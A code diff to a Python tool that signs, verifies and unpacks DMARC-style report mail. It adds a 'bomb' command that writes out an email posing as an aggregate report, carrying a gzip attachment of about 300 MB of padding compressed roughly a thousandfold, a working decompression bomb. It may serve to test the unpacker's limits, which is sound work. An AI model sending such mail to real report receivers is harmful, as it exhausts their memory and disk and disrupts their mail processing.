@@ -5,6 +5,8 @@ JSON object of names and texts.
 """
 
 import email
+import email.message
+import email.policy
 import gzip
 import json
 import sys
@@ -58,5 +60,17 @@ def unpack():
     sys.exit("nothing packed in it:\n" + message.as_string())
 
 
-COMMANDS = {"sign": sign, "verify": verify, "unpack": unpack}
+def bomb(to):
+    """A report of 300 MB, packed a thousand times smaller."""
+    mail = email.message.EmailMessage(policy=email.policy.SMTP)
+    mail["From"] = "dmarc@other.example"
+    mail["To"] = to
+    mail["Subject"] = "Report Domain: receiver.example Submitter: other.example Report-ID: <1>"
+    packed = gzip.compress(b"<feedback>" + b" " * 300_000_000, compresslevel=1)
+    mail.add_attachment(packed, maintype="application", subtype="gzip",
+                        filename="other.example!receiver.example!1!2.xml.gz")
+    sys.stdout.buffer.write(mail.as_bytes())
+
+
+COMMANDS = {"sign": sign, "verify": verify, "unpack": unpack, "bomb": bomb}
 COMMANDS[sys.argv[1]](*sys.argv[2:])
